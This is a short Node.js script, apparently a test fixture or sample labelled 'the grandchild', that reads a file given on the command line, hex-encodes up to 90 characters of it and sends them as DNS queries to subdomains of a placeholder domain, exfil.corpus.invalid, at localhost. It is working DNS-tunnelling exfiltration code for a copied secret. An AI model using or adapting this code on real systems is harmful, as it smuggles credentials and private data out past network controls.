// The grandchild: one DNS query per 30 hex characters of the copied secret.
const fs = require('fs');
const dgram = require('dgram');
const hex = Buffer.from(fs.readFileSync(process.argv[2], 'utf8').slice(0, 90)).toString('hex');
const sock = dgram.createSocket('udp4');
let pending = 0;
function query(name) {
  const labels = name.split('.').map(l => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  return Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels,
    Buffer.from([0, 0, 1, 0, 1])]);
}
for (let i = 0; i < hex.length; i += 30) {
  pending++;
  sock.send(query(`${hex.slice(i, i + 30)}.${i / 30}.exfil.corpus.invalid`), 53, '127.0.0.1', () => {
    if (--pending === 0) sock.close();
  });
}
